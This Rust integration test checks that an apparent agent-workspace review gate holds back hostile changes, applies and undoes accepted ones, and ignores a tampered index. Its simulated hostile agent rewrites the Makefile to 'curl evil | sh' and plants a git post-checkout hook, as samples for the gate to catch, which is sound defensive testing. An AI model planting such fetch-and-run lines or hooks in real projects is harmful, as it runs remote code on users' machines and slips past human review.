//! The whole way: a copy is made, the agent works and plants things, the review holds them back, apply and undo.
#![allow(
    clippy::unwrap_used,
    reason = "helpers of tests: what they cannot do must fail the test"
)]
use bastle_contract::RunId;
use bastle_workspace::apply::{Resolve, Target, apply, plan, select, undo};
use bastle_workspace::audit_delta::{Scope, delta};
use bastle_workspace::durable::Durable;
use bastle_workspace::gate::{Approvals, Rules, Tree, assess_all};
use bastle_workspace::git::{
    BranchName, CommitRequest, Contents, History, HostGit, HostRepo, Identity, Prepare, Scratch,
    commit_to_branch, ignored_paths, prepare,
};
use bastle_workspace::path::TreePath;
use bastle_workspace::place::Place;
use bastle_workspace::rooted::Root;
use bastle_workspace::workspace::{CreateRequest, Fresh, GitMade, Workspace};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

fn git(directory: &Path, arguments: &[&str]) -> String {
    let output = Command::new("git")
        .current_dir(directory)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", "/var/empty")
        .args([
            "-c",
            "user.name=Ada",
            "-c",
            "user.email=ada@example.org",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(arguments)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "git {arguments:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

fn contents(root: &Path) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut found = BTreeMap::new();
    let mut left = vec![root.to_owned()];
    while let Some(directory) = left.pop() {
        for entry in std::fs::read_dir(directory).unwrap() {
            let path = entry.unwrap().path();
            if path.symlink_metadata().unwrap().is_dir() {
                left.push(path);
            } else {
                let bytes = std::fs::read(&path).unwrap();
                found.insert(path, bytes);
            }
        }
    }
    found
}

fn project(root: &Path) {
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::write(root.join("src/main.c"), "int main(void) { return 0; }\n").unwrap();
    std::fs::write(root.join("Makefile"), "all:\n\tcc src/main.c\n").unwrap();
    std::fs::write(root.join(".gitignore"), "out/\n").unwrap();
    git(root, &["init", "-q"]);
    git(root, &["add", "-A"]);
    git(root, &["commit", "-qm", "first"]);
}

fn work_as_a_hostile_agent(tree: &Path) {
    std::fs::write(tree.join("src/main.c"), "int main(void) { return 1; }\n").unwrap();
    std::fs::write(tree.join("Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
    std::fs::create_dir_all(tree.join("out")).unwrap();
    std::fs::write(tree.join("out/a.o"), "built\n").unwrap();
    std::fs::create_dir_all(tree.join("sub/.git/hooks")).unwrap();
    std::fs::write(tree.join("sub/.git/hooks/post-checkout"), "evil\n").unwrap();
    git(tree, &["add", "-A", "src", "Makefile"]);
    git(tree, &["commit", "-qm", "inside"]);
}

#[test]
fn planted_files_stay_behind_and_source_comes_back_and_goes_again() {
    let stage = tempfile::tempdir().unwrap();
    let (host, scratch) = (stage.path().join("host"), stage.path().join("scratch"));
    project(&host);
    std::fs::create_dir(&scratch).unwrap();
    let before = contents(&host);
    let program = HostGit::find().unwrap();
    let branch = BranchName::of_agent("agent", "feature").unwrap();
    let place = Place::new(stage.path().join("state"));
    let mut hook = |fresh: &Fresh<'_>| {
        let request = Prepare {
            source: fresh.source,
            tree: fresh.tree,
            scratch: fresh.scratch,
            branch: &branch,
            user_configs: &[],
            absent: fresh.absent,
            history: History::Full,
        };
        Ok(prepare(&program, &request)?.map_or_else(GitMade::default, |made| made.made(&branch)))
    };
    let request = CreateRequest {
        run: RunId::try_from("calm-otter".to_owned()).unwrap(),
        source: &host,
        hidden: &|_| false,
        git: &mut hook,
        progress: &mut |_| {},
    };
    let copy = Workspace::create(&place, request).unwrap();
    let tree = copy.tree();
    assert_eq!(git(&tree, &["status", "--porcelain"]), "");

    work_as_a_hostile_agent(&tree);

    let (_, now) = copy.current().unwrap();
    let base = copy.base().unwrap();
    let changes = delta(&base, &now, Scope::Work);
    let repo = HostRepo::open(&host).unwrap().unwrap();
    let ignoring = Scratch::new(&scratch, repo.format, &[]).unwrap();
    let asked: Vec<&TreePath> = changes.iter().map(|change| &change.path).collect();
    let ignored = ignored_paths(&program, &ignoring, None, &[&base, &now], &copy, &asked).unwrap();
    let rules = Rules::new(bastle_policy::host_executed::catalogue().unwrap()).unwrap();
    let assessed = assess_all(&rules, &Tree::new(&base, &now), &changes, &ignored, &copy).unwrap();
    let selection = select(&assessed, &Approvals::default(), &[]);
    assert_eq!(contents(&host), before, "review wrote to the host");

    let planned = plan(&Root::open(&host).unwrap(), &selection, Resolve::Refuse, &copy).unwrap();
    let journals = copy.path("applied");
    let durable = Durable::default();
    let target = Target {
        source: &host,
        journals: &journals,
        durable: &durable,
    };
    apply(&target, &planned, &copy).unwrap();
    let mut expected = before.clone();
    expected.insert(
        host.join("src/main.c"),
        b"int main(void) { return 1; }\n".to_vec(),
    );
    assert_eq!(contents(&host), expected);
    undo(&target).unwrap();
    assert_eq!(contents(&host), before);

    let identity = Identity {
        name: "Ada".to_owned(),
        email: "ada@example.org".to_owned(),
    };
    let request = CommitRequest {
        repo: &repo,
        parent: repo.head.commit(),
        branch: &branch,
        message: "feature",
        identity: &identity,
        seconds: 1_700_000_000,
        files: &selection.files(),
        contents: Contents::AsStored,
        scratch: &scratch,
    };
    commit_to_branch(&program, &request, &copy).unwrap();
    assert_eq!(
        git(&host, &["diff", "--name-only", "main", "agent/feature"]),
        "src/main.c\n"
    );
    assert_eq!(git(&host, &["status", "--porcelain"]), "");
}

#[test]
fn a_tracked_file_that_an_ignore_rule_names_too_is_reviewed_like_any_other() {
    let stage = tempfile::tempdir().unwrap();
    let host = stage.path().join("host");
    project(&host);
    std::fs::create_dir_all(host.join("out")).unwrap();
    std::fs::write(host.join("out/kept.c"), "tracked all the same\n").unwrap();
    git(&host, &["add", "-f", "out/kept.c"]);
    git(&host, &["commit", "-qm", "forced"]);
    for split in [false, true] {
        if split {
            git(&host, &["update-index", "--split-index"]);
        }
        let place = Place::new(stage.path().join(format!("state-{split}")));
        let program = HostGit::find().unwrap();
        let branch = BranchName::of_agent("agent", "feature").unwrap();
        let mut hook = |fresh: &Fresh<'_>| {
            let request = Prepare {
                source: fresh.source,
                tree: fresh.tree,
                scratch: fresh.scratch,
                branch: &branch,
                user_configs: &[],
                absent: fresh.absent,
                history: History::Full,
            };
            Ok(prepare(&program, &request)?.map_or_else(GitMade::default, |made| made.made(&branch)))
        };
        let request = CreateRequest {
            run: RunId::try_from("calm-otter".to_owned()).unwrap(),
            source: &host,
            hidden: &|_| false,
            git: &mut hook,
            progress: &mut |_| {},
        };
        let copy = Workspace::create(&place, request).unwrap();
        std::fs::write(copy.tree().join("out/kept.c"), "changed\n").unwrap();
        std::fs::write(copy.tree().join("out/built.o"), "built\n").unwrap();
        // The agent's own index has no say in what is ignored.
        std::fs::write(copy.tree().join(".git/index"), "DIRC rubbish").unwrap();
        let (_, now) = copy.current().unwrap();
        let base = copy.base().unwrap();
        let scratch =
            Scratch::new(stage.path(), HostRepo::open(&host).unwrap().unwrap().format, &[]).unwrap();
        let changes = delta(&base, &now, Scope::Work);
        let asked: Vec<&TreePath> = changes.iter().map(|change| &change.path).collect();
        let ignored = ignored_paths(&program, &scratch, None, &[&base, &now], &copy, &asked).unwrap();
        let shown: Vec<String> = ignored.iter().map(ToString::to_string).collect();
        assert_eq!(shown, ["out/built.o"], "split: {split}");
    }
}
